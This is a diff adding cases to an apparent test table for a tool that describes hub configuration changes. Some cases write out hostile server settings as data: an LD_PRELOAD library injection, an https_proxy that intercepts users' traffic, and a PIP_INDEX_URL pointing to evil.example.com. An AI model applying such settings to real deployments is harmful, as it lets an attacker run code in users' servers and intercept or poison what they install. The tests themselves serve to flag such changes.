@@ -371,7 +371,17 @@ ROWS = {
     "culling": row(CLIMATE, "timeout: 1800", "timeout: 3600", "", "", "seconds until an unused server is stopped: 1800 → 3600"),
     "deletion of users": row(CLIMATE, "cull: {", "cull: {users: true, ", "", "",
                              "inactive people are deleted from the hub's database; their files stay"),
-    "a variable": row(OCEAN, "environment:\n", "environment:\n  LOG_LEVEL: debug\n", "", "", "environment variables of servers: "),
+    "a variable": row(OCEAN, "environment:\n", "environment:\n  LOG_LEVEL: debug\n", "", "", "LOG_LEVEL is set in servers: debug"),
+    "a search path of the image": row(OCEAN, "environment:\n", "environment:\n  PATH: /opt/tools/bin:$PATH\n", "", "", "PATH is set in servers: "),
+    "a variable that runs code": after(
+        EARTH, DEFAULTS, "    environment: {LD_PRELOAD: /shared/x.so}",
+        "LD_PRELOAD is set in servers: /shared/x.so: it can decide which programs run in people's servers", ALL_EARTH),
+    "a proxy for servers": row(
+        OCEAN, "environment:\n", "environment:\n  https_proxy: http://10.9.9.9:3128\n",
+        "https_proxy is set in servers: http://10.9.9.9:3128: what people's servers send and receive goes through this proxy", BOTH_OCEAN),
+    "packages from elsewhere": row(
+        OCEAN, "environment:\n", "environment:\n  PIP_INDEX_URL: https://evil.example.com\n",
+        "people install packages from there", BOTH_OCEAN),
     "a name": row(SANDBOX, "display_name: Sandbox", "display_name: Sand", "", "", "name of the community: Sandbox → Sand"),
     "any node": row(DEMO, "user_nodes: {selector: {}}", "user_nodes: {selector: {a: b}}", "", "",
                     "nodes of servers and builds: none → "),
